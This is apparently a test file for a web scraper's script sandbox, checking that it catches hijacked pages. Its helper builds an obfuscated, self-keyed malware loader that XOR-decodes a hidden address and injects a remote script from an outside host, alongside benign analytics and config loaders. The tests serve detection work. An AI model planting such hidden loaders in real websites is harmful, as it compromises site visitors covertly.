"""The page's <script> tags carry their text, address and attributes in the fake browser, in page
order, the running one last and as document.currentScript (v43 §1 B5: a Guruincsite loader keys its
cipher to the length of the last <script>'s text, its own tag, and inserts a remote <script>; with
no text to read it decoded nothing). Such a loader now loads what it decodes, as in a browser; an
analytics snippet taking its base address from its own tag's src, and code reading its settings
from a JSON data tag, stay clean."""
from __future__ import annotations

from lxml import html

from scraper.clean import clean_page
from scraper.clean.behaviour import page_lookups
from scraper.clean.sandbox import run_scripts

URL = "http://www.qingshan-county.gov.cn/news/2024/1127/8841.html"

BODY = ("<p>11月26日,县卫生健康局在人民广场组织开展大型义诊活动,来自县医院、中医院的专家为群众提供健康咨询。</p>"
        "<p>活动期间,医务人员为前来咨询的群众测量血压、血糖,发放健康知识宣传资料两千余份。</p>"
        "<p>县卫生健康局负责人表示,将持续推进健康知识普及行动,不断提升群众健康素养水平。</p>")


def _page(scripts: str) -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>县卫生健康局开展义诊活动_青山县人民政府</title>'
            '</head><body><header><a href="/">青山县人民政府</a><nav><a href="/">首页</a><a href="/news/">新闻动态</a></nav>'
            '</header><article><h1>县卫生健康局开展义诊活动</h1><div class="info">发布时间：2024-11-27 来源：县卫生健康局</div>'
            f'<div id="content">{BODY}</div></article><footer><p>主办：青山县人民政府办公室</p></footer>'
            f'{scripts}</body></html>').encode()


def _self_keyed_loader(address: str) -> str:
    """A loader whose key is the length of its own tag's text: the address appears nowhere."""
    def code(hexed: str) -> str:
        return ('(function(){var s=document.getElementsByTagName("script"),t=s[s.length-1].innerHTML,'
                f'k=t.length%7+1,d="{hexed}",o="";for(var i=0;i<d.length;i+=2)'
                'o+=String.fromCharCode(parseInt(d.substr(i,2),16)^k);'
                'var e=document.createElement("script");e.src=o;document.body.appendChild(e);})();')
    key = len(code("00" * len(address))) % 7 + 1
    return "<script>" + code("".join(f"{ord(c) ^ key:02x}" for c in address)) + "</script>"


def test_a_loader_keyed_to_its_own_tag_decodes_and_loads_its_address():
    page = _page(_self_keyed_loader("http://cdn.vokrugzavod.com/2.php"))
    root = html.fromstring(page)
    codes = [(i, el.text) for i, el in enumerate(root.iter("script")) if el.text]
    run = run_scripts(codes, URL, page=page_lookups(root))
    for effects in run.effects.values():
        assert [(e.kind, e.value) for e in effects] == [("load", "http://cdn.vokrugzavod.com/2.php")]


def test_a_snippet_taking_its_base_address_from_its_own_src_is_clean():
    snippet = ('<script src="https://stats.webcounter-cn.com/js/boot.js" data-site="8841">'
               'var me=document.currentScript,base=me.src.replace(/[^\\/]*$/,""),'
               'e=document.createElement("script");e.src=base+"t.js?s="+me.getAttribute("data-site");'
               'document.body.appendChild(e);</script>')
    article = clean_page(_page(snippet), URL)
    assert not article.hijacked


def test_settings_read_from_a_data_tag_load_what_the_tag_spells():
    scripts = ('<script type="application/json" id="cfg">{"player":"https://player.videoyun-cn.com/v3/embed.js"}</script>'
               '<script>var c=JSON.parse(document.getElementById("cfg").textContent),'
               'e=document.createElement("script");e.src=c.player;document.body.appendChild(e);</script>')
    article = clean_page(_page(scripts), URL)
    assert not article.hijacked


def test_script_tags_in_page_order_up_to_the_running_one():
    root = html.fromstring('<html><head><script src="/js/a.js" type="text/javascript"></script></head><body>'
                           '<script>var seen=[];</script><p>x</p><script id="last">'
                           'var s=document.scripts;seen.push(s.length,s[0].src,s[1].text,'
                           'document.currentScript.id,document.currentScript.innerHTML.length);'
                           'document.title=seen.join("|");</script><script>var after=1;</script></body></html>')
    codes = [(i, el.text) for i, el in enumerate(root.iter("script")) if el.text]
    run = run_scripts(codes, "http://www.example-q.cn/a.html", page=page_lookups(root))
    last = root.get_element_by_id("last").text
    titles = [e.value for e in run.effects["spider"] if e.kind == "title"]
    assert titles == [f"3|http://www.example-q.cn/js/a.js|var seen=[];|last|{len(last)}"]
